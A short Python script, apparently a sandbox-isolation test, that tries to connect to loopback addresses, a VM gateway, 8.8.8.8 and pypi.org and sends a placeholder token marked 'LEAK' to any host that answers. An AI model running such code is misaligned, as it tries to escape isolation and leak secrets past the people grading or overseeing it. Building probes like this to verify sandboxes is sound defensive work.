# Tries to reach a listener the grader's machine has on loopback, and the outside world.
import socket
print("ATTEMPT network")
for host in ("127.0.0.1", "localhost", "::1", "10.0.2.2", "8.8.8.8", "pypi.org"):
    try:
        with socket.create_connection((host, @@PORT@@), timeout=2) as s:
            s.sendall(b"LEAK @@TOKEN@@")
            print("CONNECTED", host)
    except OSError as exc:
        print("no connection to", host, "-", type(exc).__name__)
